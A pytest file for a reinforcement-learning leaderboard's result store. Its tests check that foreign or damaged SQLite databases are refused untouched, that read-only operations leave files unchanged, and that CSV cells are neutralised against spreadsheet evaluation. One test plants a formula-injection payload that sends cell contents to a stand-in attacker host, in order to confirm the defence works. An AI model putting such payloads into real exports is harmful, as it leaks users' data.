"""Result stores that are foreign, damaged or hand-edited, reads that write nothing, and CSV cells that
a spreadsheet cannot evaluate."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest

from metarl_agents.leaderboard import store as store_module
from metarl_agents.leaderboard.grid import RunSpec
from metarl_agents.leaderboard.merge import merge_stores
from metarl_agents.leaderboard.report import csv_cell, write_report
from metarl_agents.leaderboard.runner import run_grid
from metarl_agents.leaderboard.store import APPLICATION_ID, ResultStore, StoreError


def make_spec(seed: int, env_id: str = "MetaTMaze-v0", agent: str = "RNN") -> RunSpec:
    return RunSpec(env_id=env_id, agent=agent, seed=seed, learning_rate=1e-3, frames=1000, paper_frames=1000,
                   preset_name="MetaTMaze-v0", preset_hash="abc", eval_every=500, n_eval_tasks=2)


def finished_store(path: Path, seeds=(1, 2, 3), env_id: str = "MetaTMaze-v0", returns=(-6.0, 2.5)) -> Path:
    with ResultStore(path) as store:
        for seed in seeds:
            record = store.register_run(make_spec(seed, env_id).store_fields())
            store.record_evaluation(record.id, 500, returns[0], [returns[0]], 1.0, None)
            store.record_evaluation(record.id, 1000, returns[1] + seed, [returns[1] + seed], 2.0, None, finished=True)
    return path


def folder_state(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# -- S1: a foreign database with our application id and a hot WAL --------------------------------------------


def _foreign_wal_database_with_our_id(path: Path) -> None:
    """Another program's WAL database that carries our application id, killed with rows in its -wal."""
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute(f"PRAGMA application_id = {APPLICATION_ID}")
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("PRAGMA wal_autocheckpoint = 0")
    conn.execute("CREATE TABLE customers (name TEXT)")
    conn.execute("INSERT INTO customers VALUES ('ada')")
    wal = path.with_name(path.name + "-wal").read_bytes()
    shm = path.with_name(path.name + "-shm").read_bytes()
    conn.close()  # checkpoints; put the WAL and its index back as a crash would have left them
    path.with_name(path.name + "-wal").write_bytes(wal)
    path.with_name(path.name + "-shm").write_bytes(shm)


def test_foreign_database_with_our_id_and_a_hot_wal_is_refused_before_sqlite_touches_it(tmp_path):
    folder = tmp_path / "foreign"
    folder.mkdir()
    db = folder / "results.db"
    _foreign_wal_database_with_our_id(db)
    before = folder_state(folder)
    assert set(before) == {"results.db", "results.db-wal", "results.db-shm"}
    good = finished_store(tmp_path / "good.db")
    attempts = [
        lambda: ResultStore(db), lambda: ResultStore(db, readonly=True),
        lambda: run_grid([make_spec(1)], db, show_progress=False),
        lambda: merge_stores(db, [good]), lambda: merge_stores(tmp_path / "dest.db", [db]),
        lambda: write_report(db, tmp_path / "report"),
    ]
    for attempt in attempts:
        with pytest.raises(StoreError, match="not a metarl leaderboard store") as error:
            attempt()
        assert "\n" not in str(error.value)
        assert folder_state(folder) == before  # not folded, its -shm not rewritten, no lock file


def test_database_with_a_rollback_journal_is_refused_untouched(tmp_path):
    db = finished_store(tmp_path / "results.db")
    db.with_name("results.db-journal").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(504))
    before = folder_state(tmp_path)
    for readonly in (False, True):
        with pytest.raises(StoreError, match="rollback journal"):
            ResultStore(db, readonly=readonly)
    assert folder_state(tmp_path) == before


# -- S2: reads write nothing ----------------------------------------------------------------------------------


def test_report_and_merge_source_reads_leave_the_store_folder_byte_for_byte_as_it_was(tmp_path):
    folder = tmp_path / "store"
    folder.mkdir()
    db = finished_store(folder / "results.db")
    before = folder_state(folder)
    assert set(before) == {"results.db"}
    write_report(db, tmp_path / "report")
    assert folder_state(folder) == before
    summary = merge_stores(tmp_path / "dest.db", [db])
    assert summary.written == 3
    assert folder_state(folder) == before
    with ResultStore(db, readonly=True) as store:
        assert len(store.runs()) == 3
    assert folder_state(folder) == before


def test_a_killed_sweeps_wal_is_read_from_a_private_copy(tmp_path):
    """A -wal without its -shm (a killed sweep's, copied here): read in full, and nothing appears beside it."""
    folder = tmp_path / "store"
    folder.mkdir()
    db = folder / "results.db"
    ResultStore(db).close()
    reader = sqlite3.connect(db, isolation_level=None)
    reader.execute("SELECT COUNT(*) FROM runs").fetchone()  # holds the WAL open: no checkpoint at the close below
    with ResultStore(db) as store:
        record = store.register_run(make_spec(1).store_fields())
        store.record_evaluation(record.id, 1000, 4.0, [4.0], 1.0, None, finished=True)
    main, wal = db.read_bytes(), db.with_name("results.db-wal").read_bytes()
    reader.close()  # checkpoints; put the files back as the killed sweep left them, without the -shm
    db.write_bytes(main)
    db.with_name("results.db-wal").write_bytes(wal)
    db.with_name("results.db-shm").unlink(missing_ok=True)
    with sqlite3.connect(f"{db.as_uri()}?immutable=1", uri=True) as plain:  # the rows are only in the WAL
        assert plain.execute("SELECT COUNT(*) FROM runs").fetchone()[0] == 0
    before = folder_state(folder)
    with ResultStore(db, readonly=True) as store:
        (run,) = store.runs()
        assert [p.meta_episode_return for p in store.evaluations(run.id)] == [4.0]
    assert folder_state(folder) == before


# -- S3: damaged pages ----------------------------------------------------------------------------------------


def _damage_a_page(db: Path) -> None:
    data = bytearray(db.read_bytes())
    page = 4096
    assert len(data) >= 4 * page
    data[2 * page + 8:3 * page] = b"\x07" * (page - 8)  # keep the page type, scramble its cells
    db.write_bytes(bytes(data))


def test_damaged_page_is_one_line_naming_the_store_in_report_merge_and_run(tmp_path):
    db = finished_store(tmp_path / "results.db", seeds=range(60))
    _damage_a_page(db)
    before = folder_state(tmp_path)
    attempts = [lambda: write_report(db, tmp_path / "report"), lambda: merge_stores(tmp_path / "dest.db", [db]),
                lambda: merge_stores(db, [finished_store(tmp_path / "other.db")]),
                lambda: run_grid([make_spec(1)], db, show_progress=False)]
    for attempt in attempts:
        with pytest.raises(StoreError) as error:
            attempt()
        message = str(error.value)
        assert str(db) in message and "damaged" in message and "\n" not in message
    assert not (tmp_path / "dest.db").exists()
    after = folder_state(tmp_path)
    assert {name: data for name, data in after.items() if name in before} == before
    assert "results.db.lock" not in after  # refused before the sweep lock was written beside it


def test_a_read_torn_by_a_writers_checkpoint_is_retried_and_lasting_damage_is_not(tmp_path, monkeypatch):
    """A sweep that folds its WAL into the file while a reader checks it makes the check see damage that is
    not on disk: the store opens once a second read finds it sound, and is refused when every read does."""
    db = finished_store(tmp_path / "results.db")
    sound_check = store_module._check_sound
    reads: list[int] = []

    def torn(times: int):
        def check(conn: sqlite3.Connection, path: Path) -> None:
            reads.append(1)
            if len(reads) <= times:
                raise sqlite3.DatabaseError("database disk image is malformed")
            sound_check(conn, path)
        return check

    monkeypatch.setattr(store_module, "_check_sound", torn(times=1))
    with ResultStore(db, readonly=True) as store:
        assert len(store.runs()) == 3
    assert len(reads) == 3  # the probe's torn read and its retry, then the open connection's own check
    reads.clear()
    monkeypatch.setattr(store_module, "_check_sound", torn(times=3))
    with pytest.raises(StoreError, match="malformed"):
        ResultStore(db, readonly=True)
    assert len(reads) == 3


# -- S4: values of the wrong type or out of range --------------------------------------------------------------


@pytest.mark.parametrize("sql, column", [
    ("UPDATE runs SET lr = 'fast' WHERE seed = 2", "column lr"),
    ("UPDATE runs SET env_kwargs = '{not json' WHERE seed = 2", "column env_kwargs"),
    ("UPDATE runs SET frames_done = 9223372036854775808 WHERE seed = 2", "column frames_done"),
    ("UPDATE evaluations SET meta_episode_return = 9e999 WHERE run_id = 2", "column evaluations.meta_episode_return"),
    ("UPDATE evaluations SET frames = 9223372036854775808 WHERE run_id = 2 AND frames = 500", "evaluations.frames"),
    ("UPDATE evaluations SET episode_returns = '[Infinity]' WHERE run_id = 2", "evaluations.episode_returns"),
    ("UPDATE evaluations SET episode_returns = '{\"a\": 1}' WHERE run_id = 2", "evaluations.episode_returns"),
    ("UPDATE runs SET status = 'done' WHERE seed = 2", "column status"),
])
def test_bad_values_are_refused_naming_store_run_and_column(tmp_path, sql, column):
    db = finished_store(tmp_path / "results.db")
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA ignore_check_constraints = 1")
    conn.execute(sql)
    conn.commit()
    conn.close()
    for attempt in (lambda: write_report(db, tmp_path / "report"), lambda: merge_stores(tmp_path / "dest.db", [db])):
        with pytest.raises(StoreError) as error:
            attempt()
        message = str(error.value)
        assert str(db) in message and column in message and "\n" not in message
        assert "seed2" in message or "id 2" in message  # the run
    assert not (tmp_path / "dest.db").exists()


# -- S5: CSV cells ------------------------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted_and_numbers_stay_numbers():
    assert [csv_cell(v) for v in ("=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'=HYPERLINK(\"http://x\",\"y\")", "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in (-6.0, "-6.0", "-1e-3", "+4", 3, "MetaTMaze-v0", None, [1, 2])] == [
        -6.0, "-6.0", "-1e-3", "+4", 3, "MetaTMaze-v0", None, "1 2"]
    assert csv_cell(["-6.0", "-5.0"]) == "'-6.0 -5.0"  # "-6 -5" is a formula to a spreadsheet


def test_report_csv_files_neutralise_a_formula_in_an_env_id(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db = finished_store(tmp_path / "results.db", seeds=(1,), env_id=evil)
    write_report(db, tmp_path / "report")
    for name in ("leaderboard.csv", "evaluations.csv"):
        with (tmp_path / "report" / name).open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert rows and all(row["env_id"] == "'" + evil for row in rows)
        for row in rows:
            assert not any(str(value).startswith(("=", "+", "@")) for value in row.values())
    with (tmp_path / "report" / "evaluations.csv").open(newline="") as handle:
        returns = [row["meta_episode_return"] for row in csv.DictReader(handle)]
    assert returns == ["-6.0", "3.5"]  # a negative return is still a number
